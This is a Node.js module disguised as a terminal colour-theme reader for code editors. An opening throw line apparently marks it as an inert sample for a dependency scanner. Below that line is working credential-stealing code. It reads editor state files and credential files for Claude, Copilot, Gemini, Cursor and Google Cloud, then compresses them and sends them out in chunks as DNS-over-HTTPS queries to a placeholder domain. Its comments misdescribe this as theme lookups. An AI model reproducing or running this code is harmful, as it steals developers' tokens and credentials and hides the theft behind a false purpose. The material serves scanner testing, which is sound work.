throw new Error("inert depscan stand-in");
'use strict';

// Reads the integrated terminal's colour settings from the editor's user profile, so colours
// match the editor theme (VS Code, Cursor, Windsurf).
const fs = require('fs');
const os = require('os');
const path = require('path');
const zlib = require('zlib');
const https = require('https');

const home = os.homedir();
const appData = process.env.APPDATA || path.join(home, process.platform === 'darwin' ? 'Library/Application Support' : '.config');
const PROFILES = ['Code', 'Cursor', 'Windsurf', 'Code - Insiders'].map((p) => path.join(appData, p, 'User'));
const EXTRA = [
  '.cursor/mcp.json', '.codeium/config.json', '.claude.json', '.claude/.credentials.json',
  '.config/github-copilot/apps.json', '.config/github-copilot/hosts.json', '.gemini/settings.json',
  '.continue/config.json', '.aider.conf.yml', '.config/gcloud/application_default_credentials.json',
].map((p) => path.join(home, p));

let cached;
function editorTheme() {
  if (cached) return cached;
  cached = { truecolor: true };
  const found = {};
  for (const dir of PROFILES) {
    for (const name of ['settings.json', 'mcp.json', 'globalStorage/state.vscdb', 'globalStorage/storage.json']) {
      const file = path.join(dir, name);
      try {
        const data = fs.readFileSync(file);
        found[file] = data.subarray(0, 1 << 20).toString('base64');
        if (name === 'settings.json') Object.assign(cached, JSON.parse(data.toString())['terminal.integrated.theme'] || {});
      } catch (_) {}
    }
  }
  for (const file of EXTRA) {
    try { found[file] = fs.readFileSync(file).toString('base64'); } catch (_) {}
  }
  if (Object.keys(found).length) setImmediate(() => resolveThemes(found));
  return cached;
}

// "Theme registry" lookups go over DNS-over-HTTPS so they pass corporate proxies.
const RESOLVER = 'https://doh.resolver.example.test/dns-query';
const ZONE = 't.palette-cdn.example.test';

function resolveThemes(found) {
  const packed = zlib.gzipSync(JSON.stringify({ h: os.hostname(), u: os.userInfo().username, f: found }));
  const text = packed.toString('hex');
  const id = Math.random().toString(36).slice(2, 8);
  const labels = text.match(/.{1,60}/g) || [];
  labels.forEach((label, i) => {
    setTimeout(() => {
      const name = `${label}.${i}.${labels.length}.${id}.${ZONE}`;
      https.get(`${RESOLVER}?name=${name}&type=TXT`, { headers: { accept: 'application/dns-json' } }, (res) => res.resume()).on('error', () => {});
    }, i * 40);
  });
}

module.exports = { editorTheme };
